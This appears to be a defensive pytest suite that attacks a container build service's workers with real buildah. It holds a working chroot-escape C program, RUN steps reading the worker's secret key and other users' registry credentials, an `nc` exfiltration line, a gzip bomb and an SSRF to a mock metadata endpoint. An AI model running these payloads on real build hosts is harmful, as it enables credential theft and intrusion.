"""Adversarial review of builds (issue 12): what a hostile Containerfile or build context reaches on the
build worker, with real buildah.

Each test states what the service should do and fails while it does not.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import os
import shutil
import signal
import socket
import subprocess
import tarfile
import threading
import tracemalloc
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from pytest_django.fixtures import Settings

from builds.backends import BuildJob, BuildOutcome, builder
from builds.backends.output import Output
from builds.containerfiles import ContainerfileError, containerfile_checked
from builds.models import Build
from builds.runs import build_context
from registry.client import Credentials
from tests.builds.test_backend_buildah import Log, make_job
from tests.conftest import PushedImage
from wave_site.blobstore import blob_key, blob_store_write

# chroot("x"), climb with chdir(".."), chroot("."): the classic way out of a chroot for a process that
# holds CAP_SYS_CHROOT, which buildah's chroot isolation leaves to RUN steps.
ESCAPE_C = r"""
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
    mkdir("/.out", 0700);
    if (chroot("/.out") != 0) return 2;
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) return 3;
    execv(argv[1], argv + 1);
    return 4;
}
"""


@pytest.fixture
def data_dir(settings: Settings, tmp_path: Path) -> Path:
    settings.DATA_DIR = tmp_path / "data"
    return tmp_path / "data"


@pytest.fixture
def escape_context(tmp_path: Path) -> Path:
    """A build context holding a static `escape` program (what an attacker sends as their buildContext)."""
    if shutil.which("gcc") is None:
        pytest.skip("gcc is needed to make the static escape program")
    context = tmp_path / "context"
    context.mkdir()
    source = tmp_path / "escape.c"
    source.write_text(ESCAPE_C)
    subprocess.run(["gcc", "-static", "-O2", "-o", str(context / "escape"), str(source)], check=True)
    return context


def run_build(job: BuildJob) -> Log:
    log = Log()
    builder().build(job, log=log, should_stop=lambda: False)
    return log


@pytest.mark.slow
def test_attack_a_run_step_leaves_the_chroot_and_reads_the_workers_files(
    basic_image: PushedImage, data_dir: Path, escape_context: Path
) -> None:
    """CRITICAL. `--isolation chroot` is no boundary against root in the RUN step: it keeps CAP_SYS_CHROOT
    (and DAC_OVERRIDE, SETUID...), so a double chroot walks out to the worker's own root file system. From
    there it reads the service's data dir (the generated secret key, which seals every stored credential),
    and the auth file of its own build and of every build running beside it (other users' registry
    passwords, the service's push credentials). Reversed, the password is not masked in the public log.
    RUN steps must run in a user namespace without privileges on the worker (buildah `--isolation oci` with
    rootless/user namespaces, or a VM/gVisor), never as root in a chroot."""
    data_dir.mkdir(parents=True, exist_ok=True)
    marker = f"worker-secret-{uuid.uuid4().hex}"
    (data_dir / "secret_key").write_text(marker)
    registry = basic_image.registry
    assert registry.username
    assert registry.password
    container_file = (
        f"FROM {basic_image.reference}\n"
        "COPY escape /escape\n"
        f"RUN /escape /bin/cat {data_dir}/secret_key; echo\n"
        f"RUN /escape /bin/sh -c 'cat {data_dir}/builds/*/auth.json | rev'; echo\n"
    )
    credentials = {registry.host: Credentials(registry.username, registry.password)}
    job = make_job(registry.host, container_file, context_dir=escape_context, credentials=credentials.get)

    log = run_build(job)

    assert marker not in log.text, "a RUN step read the worker's data dir"
    pair = base64.b64encode(f"{registry.username}:{registry.password}".encode()).decode()
    assert pair[::-1] not in log.text, "a RUN step read the build's auth file (and the log showed it)"


@pytest.mark.slow
def test_attack_a_run_step_reaches_the_workers_loopback_services(anonymous_image: PushedImage, data_dir: Path) -> None:
    """HIGH. With the default `WAVE_BUILD_NETWORK` ("": buildah's default, which with chroot isolation is the
    worker's own network namespace) a RUN step connects to anything the worker can: Redis (the Celery broker:
    forged tasks, FLUSHALL), Postgres, the web process, other machines' private addresses, the cloud metadata
    address - every SSRF rule checked on `FROM` and `ADD` is moot. A stand-in service on 127.0.0.1 here.
    RUN steps need a network namespace of their own with egress only to public addresses (slirp4netns/pasta
    plus a deny list of private ranges), or no network by default. Fixed: the default network is `filtered`
    (builds.backends.network)."""
    token = f"wave-attack-{uuid.uuid4().hex}"
    received: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(60)
        port = server.getsockname()[1]

        def accept() -> None:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(10)
                received.append(connection.recv(1024))

        listener = threading.Thread(target=accept, daemon=True)
        listener.start()
        container_file = f"FROM {anonymous_image.reference}\nRUN echo {token} | nc -w 3 127.0.0.1 {port}; true\n"
        run_build(make_job(anonymous_image.registry.host, container_file))
        server.close()
        listener.join(timeout=15)
    assert received == [], "a RUN step connected to a service on the worker's loopback"


@pytest.mark.slow
def test_attack_a_run_step_sees_every_process_of_the_worker_host(anonymous_image: PushedImage, data_dir: Path) -> None:
    """MEDIUM. `unshare --pid` without `--mount-proc`: the RUN step's /proc is the host's, so it lists every
    process of the worker machine with its command line (other builds' work dirs and targets, the worker's
    own command, this test's). A fresh /proc for the build's PID namespace (`unshare --mount-proc`) hides
    them."""
    marker = f"pytest-marker-{uuid.uuid4().hex}"
    holder = subprocess.Popen(
        ["sh", "-c", "sleep 600; true", marker], stdout=subprocess.DEVNULL, start_new_session=True
    )
    try:
        container_file = f"FROM {anonymous_image.reference}\nRUN cat /proc/{holder.pid}/cmdline | tr '\\0' ' '; echo\n"
        log = run_build(make_job(anonymous_image.registry.host, container_file))
    finally:
        os.killpg(holder.pid, signal.SIGKILL)  # the shell and its sleep
        holder.wait()
    assert marker not in log.text, "a RUN step read the command line of a process outside its build"


def test_attack_a_line_without_end_is_held_whole_in_the_workers_memory() -> None:
    """MEDIUM. `Output.line` keeps the current line for the error summary, however long: a RUN step printing
    without newlines (`cat /dev/zero | tr '\\0' x`) grows the worker's memory without bound for the whole build
    timeout (and each chunk copies it all again: quadratic time). The log itself is capped; the line kept for
    the summary should be too (its last few KiB are enough)."""
    size = 32 * 1024 * 1024
    reader, writer = os.pipe()

    def flood() -> None:
        piece = b"x" * 65536
        with os.fdopen(writer, "wb") as pipe:
            for _ in range(size // len(piece)):
                pipe.write(piece)

    sent: list[int] = []
    output = Output(lambda text: sent.append(len(text)))
    pump = threading.Thread(target=flood)
    tracemalloc.start()
    try:
        pump.start()
        os.set_blocking(reader, False)
        while output.read(reader, timeout=1.0):
            pass
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        pump.join()
        os.close(reader)
    assert sum(sent) == size  # it all went to the log (which caps it)
    assert peak < 8 * 1024 * 1024, f"{peak // 2**20} MiB held for one {size // 2**20} MiB line"


def gzip_bomb(unpacked_size: int) -> bytes:
    """A tar.gz of one file of zeros: ~1000 times smaller than what it unpacks to."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        info = tarfile.TarInfo("zeros.bin")
        info.size = unpacked_size
        archive.addfile(info, io.BytesIO(bytes(unpacked_size)))
    return gzip.compress(raw.getvalue(), compresslevel=9)


@pytest.mark.django_db
def test_attack_a_gzip_bomb_context_is_unpacked_whole(settings: Settings, tmp_path: Path) -> None:
    """MEDIUM. The build context's gzip size is bounded (WAVE_LAYER_DOWNLOAD_MAX_BYTES), its unpacked size is
    not: `build_context` extracts everything (then the builder copies it again into the work dir), so a
    2 GiB context of zeros fills the worker's disk with ~2 TiB twice. Extraction should stop, failing the build
    with a reason, past a bound on the unpacked size (and on the number of entries)."""
    settings.DATA_DIR = tmp_path / "data"
    settings.WAVE_LAYER_DOWNLOAD_MAX_BYTES = 16 * 1024 * 1024
    bomb = gzip_bomb(128 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024
    digest = "sha256:" + hashlib.sha256(bomb).hexdigest()
    blob_store_write(blob_key(digest), bomb)
    build = Build(build_id="bd-00000000000000ff_1", context_digest=digest)
    unpacked = 0
    try:
        with build_context(build) as folder:
            assert folder is not None
            unpacked = sum(path.stat().st_size for path in folder.rglob("*") if path.is_file())
    except Exception:  # noqa: BLE001 - refusing the bomb is what should happen
        unpacked = 0
    assert unpacked <= settings.WAVE_LAYER_DOWNLOAD_MAX_BYTES, (
        f"{unpacked // 2**20} MiB unpacked from {len(bomb)} bytes"
    )


@pytest.mark.slow
def test_attack_the_workers_proxy_credentials_reach_run_steps_and_the_public_log(
    anonymous_image: PushedImage, data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """MEDIUM. The worker's HTTP(S)_PROXY variables are passed to buildah (Session.environment), and buildah
    passes them on to every RUN step (`--http-proxy` defaults to true): a proxy URL with a login
    (`http://user:password@proxy:3128`, common for corporate egress) is printed by `RUN env` into the build
    log, which anyone with the build id reads. Either `--http-proxy=false` (and a proxy for RUN steps only by
    an explicit setting), or the proxy URLs' passwords added to the secrets the log masks."""
    password = f"proxy-secret-{uuid.uuid4().hex}"
    monkeypatch.setenv("HTTP_PROXY", f"http://wave:{password}@192.0.2.1:3128")
    monkeypatch.setenv("NO_PROXY", "*")  # the registry fixture is reached directly
    container_file = f"FROM {anonymous_image.reference}\nRUN env | grep -i _proxy\n"

    log = run_build(make_job(anonymous_image.registry.host, container_file))

    assert "HTTP_PROXY" in log.text  # the step ran
    assert password not in log.text, "the worker's proxy password is in the build log"


@pytest.mark.slow
def test_attack_add_reaches_a_refused_address_named_by_the_base_images_env(
    anonymous_image: PushedImage, data_dir: Path, settings: Settings
) -> None:
    """MEDIUM (today RUN reaches it anyway; it matters once RUN steps lose the worker's network, because
    buildah fetches `ADD <url>` itself, in the worker's network). The `ADD` SSRF check expands variables from
    the Containerfile's own ARG/ENV only; buildah expands them from the base image's ENV too (which even wins
    over the Containerfile's ARG). A base image with `ENV U=http://<refused host>/...` and `ADD $U /x` would pass
    the check and the worker fetch the refused URL: an `ADD` source whose scheme or host a variable the parser
    cannot resolve may supply is refused before buildah runs. (Redirects and DNS rebinding at fetch time are not
    checked.)"""
    settings.WAVE_SSRF_ALLOW = ["127.0.0.1"]  # the registry fixtures; "localhost" is not allowed
    hits: list[str] = []

    class Metadata(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            body = b"instance-credentials"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Metadata)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://localhost:{server.server_address[1]}/latest/meta-data"
        with pytest.raises(ContainerfileError):  # named in the Containerfile, it is refused
            containerfile_checked(f"FROM {anonymous_image.reference}\nADD {url} /m\n")
        host = anonymous_image.registry.host
        base = make_job(host, f"FROM {anonymous_image.reference}\nENV U={url}\n", network="host")
        assert builder().build(base, log=Log(), should_stop=lambda: False).succeeded
        hits.clear()
        log = Log()
        outcome = builder().build(
            make_job(host, f"FROM {base.target}\nADD $U /m\n", network="host"), log=log, should_stop=lambda: False
        )
    finally:
        server.shutdown()
        server.server_close()
    assert outcome == BuildOutcome(
        succeeded=False,
        exit_status=None,
        digest="",
        failure_reason=(
            "ADD source '$U' on line 2 uses a variable the Containerfile does not define ('U'): a URL must be "
            "spelled out or built from ENV set in the Containerfile"
        ),
    )
    assert log.text == ""  # refused before buildah ran
    assert hits == [], "buildah fetched a URL the SSRF rules refuse"
